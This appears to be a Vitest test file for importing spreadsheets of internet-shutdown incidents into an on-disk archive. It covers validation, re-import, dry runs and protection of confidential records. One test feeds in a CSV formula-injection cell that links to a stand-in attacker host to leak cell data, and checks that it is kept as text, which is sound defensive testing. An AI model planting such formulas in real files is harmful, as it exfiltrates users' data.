/**
 * Importing spreadsheets into a real archive on disk: all or nothing, found
 * again by external id, refused whole when too large or not UTF-8, and
 * every cell kept as text.
 */
import { createHash } from 'node:crypto';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join, relative } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Archive } from '../archive';
import { EngineError } from '../errors';
import { sampleIncident, sampleTestimony, temporaryFolder } from '../testing/fixtures';
import { csvLimits } from './readCsv';

let folder: Awaited<ReturnType<typeof temporaryFolder>>;
let archive: Archive;
let dir: string;

beforeEach(async () => {
  folder = await temporaryFolder();
  dir = join(folder.path, 'archive');
  archive = await Archive.create(dir, { name: 'Almaty group', organization: 'Дәлел', passphrase: null });
});
afterEach(async () => {
  await archive.close().catch(() => {});
  await folder.remove();
});

const header = 'externalId,title__en,title__ru,startedAt,endedAt,kinds,scope,areas,sourceUrl,confidential';
const rows = [
  'ev-1,Mobile data cut in Zhanaozen,Отключение мобильного интернета в Жанаозене,2022-01-02,2022-01-10,Мобильді интернетті өшіру,local,KZ-47|Жаңаөзен,https://example.org/a|https://example.org/b,no',
  'ev-2,Nationwide shutdown,,05.01.2022 16:00,,Full network shutdown,Общенациональный,,,yes',
  'ev-3,"Quoted, with a comma and a ""quote""\nand a new line",,2022-01-06T09:00+06:00,,throttling,national,,,нет',
];

async function csvFile(name: string, text: string | Uint8Array): Promise<string> {
  const path = join(folder.path, name);
  await writeFile(path, text);
  return path;
}

/** Every file of the archive folder and its hash: what "unchanged" means on disk. */
async function folderState(): Promise<Record<string, string>> {
  const state: Record<string, string> = {};
  for (const entry of await readdir(dir, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const path = join(entry.parentPath, entry.name);
    if (path.includes('.dalel-lock')) continue;
    state[relative(dir, path)] = createHash('sha256').update(await readFile(path)).digest('hex');
  }
  return state;
}

const run = (path: string, dryRun = false, language = 'en') => archive.importCsv({ path, dryRun, language });

function incidents() {
  return archive.listRecords('incident').map((summary) => summary.data as Record<string, unknown>);
}

describe('importing an own spreadsheet', () => {
  it('adds every row as an incident with its sources, codes read from labels in any language', async () => {
    const path = await csvFile('sheet.csv', [header, ...rows].join('\r\n'));
    const result = await run(path, false, 'ru');
    expect(result.problems).toEqual([]);
    expect(result).toMatchObject({ kind: 'own', imported: true, rows: 3, counts: { incidentsAdded: 3, sourcesAdded: 2, revised: 0, unchanged: 0 } });
    const byId = Object.fromEntries(incidents().map((incident) => [incident.externalId, incident]));
    // The person's language is preferred among the `__lang` columns; an empty one falls back to another.
    expect(byId['ev-1']).toMatchObject({
      title: 'Отключение мобильного интернета в Жанаозене',
      kinds: ['mobile_data'],
      scope: 'local',
      areas: [{ code: 'KZ-47' }, { place: 'Жаңаөзен' }],
      startedAt: { at: '2022-01-02T00:00+05:00', precision: 'day' },
      confidential: false,
    });
    expect(byId['ev-2']).toMatchObject({ title: 'Nationwide shutdown', kinds: ['full_network'], scope: 'national', startedAt: { at: '2022-01-05T16:00+05:00', precision: 'minute' }, confidential: true });
    expect(byId['ev-3']!.title).toBe('Quoted, with a comma and a "quote"\nand a new line');
    const sources = archive.listRecords('source').map((summary) => summary.data as Record<string, unknown>);
    expect(sources.map((source) => source.externalId).sort()).toEqual(['ev-1/source/1', 'ev-1/source/2']);
    expect((byId['ev-1']!.sources as string[]).sort()).toEqual(archive.listRecords('source').map((summary) => summary.recordId).sort());
  });

  it('refuses the whole file for one bad row, and the archive is byte for byte as before', async () => {
    const before = await folderState();
    const hash = await archive.stateHash();
    // Blank rows count as the spreadsheet counts them, and are no problem.
    const path = await csvFile('bad.csv', [header, ...rows, ',,,,,,,,,', '', 'ev-4,Bad date,,31.02.2022,,throttling,national,,,no', 'ev-5,Too few cells'].join('\n'));
    const result = await run(path);
    expect(result.imported).toBe(false);
    expect(result.problems).toEqual([
      { row: 7, column: 'startedAt', key: 'csv:row.badDate', params: { given: '31.02.2022' } },
      { row: 8, key: 'csv:row.cellCount', params: { found: 2, expected: 10 } },
    ]);
    expect(result.counts.incidentsAdded).toBe(0);
    expect(await archive.stateHash()).toBe(hash);
    await archive.close();
    expect(await folderState()).toEqual(before);
  });

  it('adds nothing when the same file is imported again, and a changed row becomes a new revision', async () => {
    const path = await csvFile('sheet.csv', [header, ...rows].join('\n'));
    await run(path);
    const hash = await archive.stateHash();
    const again = await run(path);
    expect(again).toMatchObject({ imported: true, counts: { incidentsAdded: 0, sourcesAdded: 0, revised: 0, unchanged: 5 } });
    expect(again.preview.map((row) => row.status)).toEqual(['unchanged', 'unchanged', 'unchanged']);
    expect(await archive.stateHash()).toBe(hash);

    const changed = await csvFile('changed.csv', [header, rows[0], rows[1]!.replace('Nationwide shutdown', 'Nationwide shutdown — all operators'), rows[2]].join('\n'));
    const preview = await run(changed, true);
    expect(preview.preview.map((row) => row.status)).toEqual(['unchanged', 'changed', 'unchanged']);
    expect(await archive.stateHash()).toBe(hash);
    const result = await run(changed);
    expect(result.counts).toEqual({ incidentsAdded: 0, sourcesAdded: 0, revised: 1, unchanged: 4 });
    const revised = archive.listRecords('incident').find((summary) => (summary.data as { externalId?: string }).externalId === 'ev-2')!;
    expect(revised).toMatchObject({ revisionCount: 2, conflict: false });
    expect((revised.data as { title: string }).title).toBe('Nationwide shutdown — all operators');
    expect(archive.listRecords('incident')).toHaveLength(3);
  });

  it('writes nothing on a dry run, and says what it would add', async () => {
    const path = await csvFile('sheet.csv', [header, ...rows].join('\n'));
    const hash = await archive.stateHash();
    const result = await run(path, true);
    expect(result).toMatchObject({ imported: false, counts: { incidentsAdded: 3, sourcesAdded: 2 } });
    expect(result.preview.map((row) => [row.row, row.externalId, row.status])).toEqual([
      [2, 'ev-1', 'new'],
      [3, 'ev-2', 'new'],
      [4, 'ev-3', 'new'],
    ]);
    expect(await archive.stateHash()).toBe(hash);
  });

  it('reads a column mapping, UTF-8 with its BOM, and keeps a cell starting with = as text', async () => {
    const text = '\uFEFFНомер;Название;Дата;Вид;Масштаб\n' + 'A-1;=HYPERLINK("http://evil.example/?"&A1);2022-01-05;Throttling;local\n' + 'A-2;"=1+2";2022-01-05;Throttling;local\n';
    const path = await csvFile('own.csv', text.replaceAll(';', ','));
    const mapping = { columns: { Номер: 'externalId', Название: 'title', Дата: 'startedAt', Вид: 'kinds', Масштаб: 'scope' } } as const;
    const result = await archive.importCsv({ path, mapping, dryRun: false, language: 'kk' });
    expect(result.problems).toEqual([]);
    expect(result.columns.map((column) => column.field)).toEqual(['externalId', 'title', 'startedAt', 'kinds', 'scope']);
    const byId = Object.fromEntries(incidents().map((incident) => [incident.externalId, incident]));
    expect(byId['A-1']).toMatchObject({ title: '=HYPERLINK("http://evil.example/?"&A1)', kinds: ['throttling'] });
    expect(byId['A-2']!.title).toBe('=1+2');
  });

  it('names each problem with its row and column, as i18n keys', async () => {
    const path = await csvFile('bad.csv', 'externalId,title,startedAt,kinds,confidential,scope\n,No id,2022-01-05,throttling,no,local\nx-1,Bad,2022-01-05,Slow internet,perhaps,local\nx-2,Twice,2022-01-05,throttling,no,local\nx-2,Twice,2022-01-05,throttling,no,local\n');
    const { problems, imported } = await run(path);
    expect(imported).toBe(false);
    expect(problems).toEqual([
      { row: 2, column: 'externalId', key: 'csv:row.externalIdMissing', params: {} },
      { row: 3, column: 'kinds', key: 'csv:row.unknownLabel', params: { given: 'Slow internet' } },
      { row: 3, column: 'confidential', key: 'csv:row.badBoolean', params: { given: 'perhaps' } },
      { row: 5, key: 'csv:row.duplicateId', params: { id: 'x-2', first: 4 } },
    ]);
  });

  it('checks every row with the record schemas', async () => {
    const path = await csvFile('bad.csv', 'externalId,title,startedAt,endedAt,kinds\nx-1,Backwards,2022-01-05,2022-01-04,throttling\nx-2,,2022-01-05,,throttling\n');
    const { problems } = await run(path);
    expect(problems).toEqual([
      { row: 2, field: 'scope', key: 'validation:required', params: { choices: 'national, regional, local' } },
      { row: 3, column: 'title', key: 'validation:required', params: {} },
      { row: 3, field: 'scope', key: 'validation:required', params: { choices: 'national, regional, local' } },
    ]);
    const withScope = await csvFile('scoped.csv', 'externalId,title,startedAt,endedAt,kinds,scope\nx-1,Backwards,2022-01-05,2022-01-04,throttling,local\n');
    expect((await run(withScope)).problems).toEqual([{ row: 2, column: 'endedAt', key: 'validation:endBeforeStart', params: {} }]);
  });

  it('refuses an area code the gazetteer does not hold, as every save does, and writes nothing', async () => {
    const before = await folderState();
    const path = await csvFile('codes.csv', 'externalId,title,startedAt,kinds,scope,areas\nx-1,Zhanaozen,2022-01-02,mobile_data,local,KZ-47-ZHANAOZN\nx-2,Aktau,2022-01-02,mobile_data,local,KZ-47-AKTAU\n');
    const { problems } = await run(path);
    expect(problems).toEqual([{ row: 2, column: 'areas', key: 'validation:unknownAreaCode', params: { given: '"KZ-47-ZHANAOZN"' } }]);
    expect(await folderState()).toEqual(before);
  });

  it('finishes an import that crashed after its moment of change: every row or none', async () => {
    const path = await csvFile('sheet.csv', [header, ...rows].join('\n'));
    const records = (archive as unknown as { records: { addAll: (...args: unknown[]) => Promise<unknown> } }).records;
    const addAll = records.addAll.bind(records);
    let calls = 0;
    records.addAll = async (...args) => {
      calls += 1;
      if (calls === 1) throw new Error('power cut');
      return addAll(...args);
    };
    await expect(run(path)).rejects.toThrow('power cut');
    await archive.close();
    archive = await Archive.open(dir);
    expect(incidents().map((incident) => incident.externalId).sort()).toEqual(['ev-1', 'ev-2', 'ev-3']);
    expect(archive.listRecords('source')).toHaveLength(2);
  });
});

describe("STOP's export", () => {
  const fixture = join(__dirname, '../../../shared/csv/testing/stop-fixture.csv');

  it('is told by its header, read with the STOP mapping, and found again by its row keys', async () => {
    const result = await run(fixture);
    expect(result).toMatchObject({ kind: 'stop', imported: true, rows: 4, problems: [], counts: { incidentsAdded: 4, sourcesAdded: 6 } });
    expect(result.preview.every((row) => row.externalId.startsWith('stop:KZ:'))).toBe(true);
    const hash = await archive.stateHash();
    expect((await run(fixture)).counts).toEqual({ incidentsAdded: 0, sourcesAdded: 0, revised: 0, unchanged: 10 });
    expect(await archive.stateHash()).toBe(hash);
  });

  it("names a bad cell by STOP's column, and writes nothing", async () => {
    const text = await readFile(fixture, 'utf8');
    const broken = await csvFile('stop.csv', text.replace('6/9/2019', '13/45/2019'));
    const hash = await archive.stateHash();
    const result = await run(broken);
    expect(result.imported).toBe(false);
    expect(result.problems).toEqual([{ row: 2, column: 'start_date', key: 'validation:stopCsv.invalidDate', params: { given: '13/45/2019' } }]);
    expect(await archive.stateHash()).toBe(hash);
  });
});

describe('what an import never does', () => {
  const one = (title: string, confidential = 'no') => `externalId,title,startedAt,kinds,scope,sourceUrl,confidential\nev-1,${title},2022-01-05,throttling,local,https://example.org/a,${confidential}\n`;
  const byExternalId = (id: string) => archive.listRecords('incident').find((summary) => (summary.data as { externalId?: string } | null)?.externalId === id)!;

  it('never lowers a protection: a confidential incident and a sensitive source stay so, a sample record stays marked', async () => {
    await run(await csvFile('first.csv', one('Throttled', 'yes')));
    const source = archive.listRecords('source')[0]!;
    expect(source.data).toMatchObject({ sensitive: true });
    const sheet = await csvFile('open.csv', one('Throttled in Aktau', 'no'));
    expect((await run(sheet)).counts).toMatchObject({ revised: 1, unchanged: 1 });
    expect(byExternalId('ev-1').data).toMatchObject({ title: 'Throttled in Aktau', confidential: true });
    expect(archive.getRecord(source.recordId).summary.data).toMatchObject({ sensitive: true });

    await archive.save({ type: 'incident', data: sampleIncident({ externalId: 'sample-1', illustrative: true }) });
    const sample = await csvFile('sample.csv', 'externalId,title,startedAt,kinds,scope\nsample-1,Not a sample any more,2022-01-05,throttling,local\n');
    expect((await run(sample)).counts.revised).toBe(1);
    expect(byExternalId('sample-1')).toMatchObject({ revisionCount: 2, data: { title: 'Not a sample any more', illustrative: true } });
  });

  it('keeps what the sheet does not say: a field no column fills and sources linked in the app', async () => {
    await run(await csvFile('first.csv', one('Throttled')));
    const incident = byExternalId('ev-1');
    const linked = await archive.save({ type: 'source', data: { kind: 'document', title: 'Letter from the operator' } });
    const data = incident.data as Record<string, unknown>;
    await archive.save({ type: 'incident', recordId: incident.recordId, parent: incident.headId, data: { ...data, summary: 'Written in the app.', sources: [...(data.sources as string[]), linked.recordId] } });
    expect((await run(await csvFile('again.csv', one('Throttled in Aktau')))).counts.revised).toBe(1);
    expect(byExternalId('ev-1').data).toMatchObject({ title: 'Throttled in Aktau', summary: 'Written in the app.' });
    expect((byExternalId('ev-1').data as { sources: string[] }).sources).toContain(linked.recordId);
  });

  it("never rewrites a person's testimony, nor a retracted record, and then writes nothing", async () => {
    await archive.save({ type: 'source', data: sampleTestimony({ externalId: 'ev-1/source/1' }) });
    const hash = await archive.stateHash();
    const result = await run(await csvFile('sheet.csv', one('Throttled')));
    expect(result).toMatchObject({ imported: false, problems: [{ row: 2, key: 'csv:row.testimonyNotUpdated', params: { id: 'ev-1/source/1' } }] });
    expect(await archive.stateHash()).toBe(hash);

    const saved = await archive.save({ type: 'incident', data: sampleIncident({ externalId: 'gone-1' }) });
    await archive.retract({ recordId: saved.recordId, parent: saved.revisionId, reason: 'duplicate' });
    const retracted = await run(await csvFile('gone.csv', 'externalId,title,startedAt,kinds,scope\ngone-1,Back again,2022-01-05,throttling,local\n'));
    expect(retracted.problems).toEqual([{ row: 2, key: 'csv:row.recordNotUpdatable', params: { id: 'gone-1' } }]);
    expect(archive.listRecords('incident')).toHaveLength(1);
  });
});

describe('a file refused whole', () => {
  async function refusal(promise: Promise<unknown>): Promise<EngineError> {
    const error = await promise.then(() => null, (caught: unknown) => caught);
    expect(error).toBeInstanceOf(EngineError);
    return error as EngineError;
  }

  it('is refused when too large, too long, or not UTF-8, and nothing changes', async () => {
    const hash = await archive.stateHash();
    const big = await csvFile('big.csv', `${header}\n${'x'.repeat(2048)}`);
    expect((await refusal(archive.importCsv({ path: big, dryRun: false, language: 'en', limits: { ...csvLimits, bytes: 1024 } }))).code).toBe('csvTooLarge');
    const many = await csvFile('many.csv', [header, ...Array.from({ length: 6 }, (_, index) => rows[1]!.replace('ev-2', `ev-${index}`))].join('\n'));
    expect((await refusal(archive.importCsv({ path: many, dryRun: false, language: 'en', limits: { ...csvLimits, rows: 5 } }))).code).toBe('csvTooManyRows');
    const long = await csvFile('long.csv', `${header}\nev-1,${'я'.repeat(30)},2022-01-05,,throttling,national,,,,no`);
    const tooLong = await refusal(archive.importCsv({ path: long, dryRun: false, language: 'en', limits: { ...csvLimits, fieldChars: 20 } }));
    expect(tooLong.code).toBe('csvFieldTooLong');
    expect(tooLong.params.row).toBe(2);
    const latin1 = await csvFile('latin1.csv', Buffer.from(`${header}\nev-1,Caf\xe9,2022-01-05,,throttling,national,,,,no\n`, 'latin1'));
    expect((await refusal(run(latin1))).code).toBe('csvNotUtf8');
    const open = await csvFile('open.csv', `${header}\nev-1,"never closed,2022-01-05,,throttling,national,,,,no\n`);
    expect((await refusal(run(open))).code).toBe('csvMalformed');
    expect((await refusal(run(await csvFile('empty.csv', '\n\n')))).code).toBe('csvEmpty');
    expect((await refusal(run(await csvFile('unmapped.csv', 'a,b\n1,2\n')))).code).toBe('csvNoColumnMapped');
    expect((await refusal(archive.importCsv({ path: big, dryRun: false, language: 'en', mapping: { columns: { a: 'password' as never } } }))).code).toBe('csvMappingInvalid');
    expect(await archive.stateHash()).toBe(hash);
  });
});
